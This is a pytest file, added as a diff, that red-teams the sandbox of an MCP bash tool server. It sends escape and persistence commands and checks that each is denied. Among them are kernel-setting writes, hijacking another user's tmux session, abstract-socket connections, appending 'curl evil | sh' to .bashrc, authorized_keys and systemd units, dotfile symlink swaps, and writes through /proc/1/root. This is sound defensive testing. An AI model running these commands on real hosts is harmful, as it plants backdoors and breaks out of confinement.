@@ -1,0 +1,227 @@
+"""The red team's cases against ``tether mcp --sandbox``, through the official MCP client, as root.
+
+The working directory is the user's ``$HOME`` (a writable root), so only the sandbox's own rules
+stand between a command and the user's start-up files, keys and repositories. Every attempt must
+fail with a structured denial while a benign write in the same command succeeds.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import secrets
+import socket
+import subprocess
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from sandbox_mcp_harness import bash, denials, server, tree
+
+pytestmark = pytest.mark.timeout(180)
+SYSCTL = Path("/proc/sys/kernel/printk_ratelimit")
+CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    home = tmp_path / "home"
+    (home / "tools" / "bin").mkdir(parents=True)  # a directory on the server's PATH
+    (home / ".bashrc").write_text("# the user's bashrc\n")
+    (home / ".ssh").mkdir(mode=0o700)
+    (home / ".ssh" / "config").write_text("Host *\n")
+    (home / ".gitconfig").write_text("[user]\n\tname = the user\n")
+    return home
+
+
+def _read(path: Path) -> str:
+    return path.read_text()
+
+
+def _restore(path: Path, value: str) -> None:
+    if path.read_text() != value:  # never leave the host changed, even when the test fails
+        path.write_text(value)
+
+
+def _windows(sock: Path) -> list[str]:
+    out = subprocess.run(
+        ["tmux", "-S", str(sock), "list-windows", "-a"], capture_output=True, text=True, check=True
+    )
+    return out.stdout.splitlines()
+
+
+def _exists(path: str) -> bool:
+    return os.path.exists(path)
+
+
+def _benign(home: Path) -> tuple[str, str]:
+    marker = secrets.token_hex(4)
+    return f"; echo {marker} > {home}/benign.txt", marker
+
+
+def _benign_done(home: Path, marker: str) -> None:
+    assert (home / "benign.txt").read_text() == f"{marker}\n"
+
+
+async def test_kernel_settings_stay_as_they_are(tether_home: Path, home: Path) -> None:
+    before, pattern = _read(SYSCTL), _read(CORE_PATTERN)
+    changed = str(int(before) + 1)
+    tail, marker = _benign(home)
+    try:
+        async with server(tether_home, home, "--sandbox") as client:
+            text, data = await bash(
+                client,
+                f"echo {changed} > {SYSCTL}; echo '|/bin/false' > {CORE_PATTERN}; "
+                f"unshare -U -r sh -c 'echo {changed} > {SYSCTL}'; "
+                "grep -E '^(CapEff|NoNewPrivs):' /proc/self/status" + tail,
+            )
+    finally:
+        _restore(SYSCTL, before)
+    assert _read(SYSCTL) == before and _read(CORE_PATTERN) == pattern
+    assert "CapEff:\t0000000000000000" in text and "NoNewPrivs:\t1" in text
+    assert ("write", str(SYSCTL)) in denials(data) and ("write", str(CORE_PATTERN)) in denials(data)
+    _benign_done(home, marker)
+
+
+@contextlib.contextmanager
+def other_tmux_server() -> Iterator[Path]:
+    """A tmux server of someone else, its socket outside /tmp, /run and TETHER_HOME."""
+    directory = Path(tempfile.mkdtemp(prefix="tt-", dir="/var/tmp"))
+    sock = directory / "s"
+    try:
+        subprocess.run(
+            ["tmux", "-S", str(sock), "new-session", "-d", "-s", "victim", "sleep 600"], check=True
+        )
+        yield sock
+    finally:
+        subprocess.run(["tmux", "-S", str(sock), "kill-server"], capture_output=True, check=False)
+        sock.unlink(missing_ok=True)
+        directory.rmdir()
+
+
+async def test_another_tmux_server_cannot_be_reached(tether_home: Path, home: Path) -> None:
+    tail, marker = _benign(home)
+    with other_tmux_server() as sock:
+        async with server(tether_home, home, "--sandbox") as client:
+            text, data = await bash(
+                client,
+                f"tmux -S {sock} ls; echo ls=$?; tmux -S {sock} new-window 'touch /etc/owned'; echo new=$?"
+                + tail,
+            )
+        windows = _windows(sock)
+    assert "ls=1" in text and "new=1" in text and "victim" not in text
+    assert len(windows) == 1  # nothing was typed or opened there
+    assert ("socket", str(sock)) in denials(data)
+    _benign_done(home, marker)
+
+
+@contextlib.contextmanager
+def abstract_listener() -> Iterator[tuple[socket.socket, str]]:
+    name = f"tether-red-team-{secrets.token_hex(4)}"
+    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    try:
+        listener.bind("\0" + name)
+        listener.listen(4)
+        listener.setblocking(False)
+        yield listener, name
+    finally:
+        listener.close()
+
+
+@pytest.mark.parametrize("mode", ["use_default", "allow_network"])
+async def test_an_abstract_socket_of_the_host_cannot_be_reached(
+    tether_home: Path, home: Path, mode: str
+) -> None:
+    (tether_home / "config.toml").write_text('[sandbox]\nallow_escalations = ["allow_network"]\n')
+    tail, marker = _benign(home)
+    extra = {} if mode == "use_default" else {"sandbox_permissions": mode, "justification": "red team"}
+    with abstract_listener() as (listener, name):
+        async with server(tether_home, home, "--sandbox") as client:
+            script = f"import socket; socket.socket(socket.AF_UNIX).connect('\\0{name}'); print('connected')"
+            text, data = await bash(client, f'python3 -c "{script}"; echo rc=$?' + tail, **extra)
+        with pytest.raises(BlockingIOError):
+            listener.accept()
+    assert "connected" not in text and "rc=1" in text
+    assert ("socket", "AF_UNIX") in denials(data)
+    _benign_done(home, marker)
+
+
+ATTEMPTS = (
+    ".bashrc",
+    ".bash_aliases",
+    ".profile",
+    ".ssh/authorized_keys",
+    ".ssh/rc",
+    ".ssh/config",
+    ".gitconfig",
+    ".config/git/config",
+    ".local/bin/git",
+    "bin/git",
+    "tools/bin/git",
+    ".config/autostart/evil.desktop",
+    ".config/systemd/user/evil.service",
+    ".tmux.conf",
+)
+
+
+async def test_persistence_paths_under_a_home_workdir_stay_unchanged(tether_home: Path, home: Path) -> None:
+    before = tree(home)
+    tail, marker = _benign(home)
+    writes = "; ".join(f"mkdir -p $(dirname ~/{p}); echo 'curl evil | sh' >> ~/{p}" for p in ATTEMPTS)
+    moves = "; mv ~/.ssh ~/.ssh-old; mv ~/.config ~/.config-old"
+    async with server(tether_home, home, "--sandbox") as client:
+        text, data = await bash(client, writes + moves + tail)
+    after = tree(home)
+    after.pop(str(home / "benign.txt"))
+    assert after == before, text
+    found = denials(data)
+    for path in ATTEMPTS:
+        assert ("write", str(home / path)) in found, (path, text)
+    _benign_done(home, marker)
+
+
+def _dotfiles(home: Path) -> None:
+    (home / "dotfiles" / "config" / "git").mkdir(parents=True)
+    (home / "dotfiles" / "bashrc").write_text("# managed\n")
+    (home / ".bashrc").unlink()
+    (home / ".bashrc").symlink_to("dotfiles/bashrc")
+    (home / ".config").symlink_to("dotfiles/config")
+
+
+async def test_symlinked_dotfiles_cannot_be_swapped(tether_home: Path, home: Path) -> None:
+    _dotfiles(home)
+    tail, marker = _benign(home)
+    swap = (
+        "echo evil >> ~/.bashrc; rm ~/.bashrc; echo evil > ~/.bashrc; "
+        "rm ~/.config; mkdir -p ~/.config/git; echo '[core] pager = evil' > ~/.config/git/config"
+    )
+    async with server(tether_home, home, "--sandbox") as client:
+        text, data = await bash(client, swap + tail)
+    assert os.readlink(home / ".bashrc") == "dotfiles/bashrc" and _read(home / ".bashrc") == "# managed\n"
+    assert os.readlink(home / ".config") == "dotfiles/config"
+    assert not (home / "dotfiles/config/git/config").exists()
+    found = {target: detail for kind, target, detail in _all_denials(data)}
+    assert "restored" in found[str(home / ".bashrc")] and "restored" in found[str(home / ".config")], text
+    assert 'sandbox_permissions="require_escalated"' in text
+    _benign_done(home, marker)
+
+
+def _all_denials(data: dict[str, object]) -> list[tuple[str, str, str]]:
+    sandbox = data["sandbox"]
+    assert isinstance(sandbox, dict)
+    return [(d["kind"], d["target"], d["detail"]) for d in sandbox["denials"]]
+
+
+async def test_touching_proc_1_root_returns_a_denial_at_once(tether_home: Path, home: Path) -> None:
+    tail, marker = _benign(home)
+    async with server(tether_home, home, "--sandbox") as client:
+        # A report that hangs would be promoted to a background job at this deadline.
+        _, data = await bash(
+            client, "touch /proc/1/root/etc/tether-x; touch /proc/self/root/usr/x" + tail, timeoutMs=60_000
+        )
+    assert ("write", "/etc/tether-x") in denials(data) and ("write", "/usr/x") in denials(data)
+    detail = next(d["detail"] for d in data["sandbox"]["denials"] if d["target"] == "/etc/tether-x")
+    assert "through /proc/1/root/etc/tether-x" in detail
+    assert not _exists("/etc/tether-x")
+    _benign_done(home, marker)
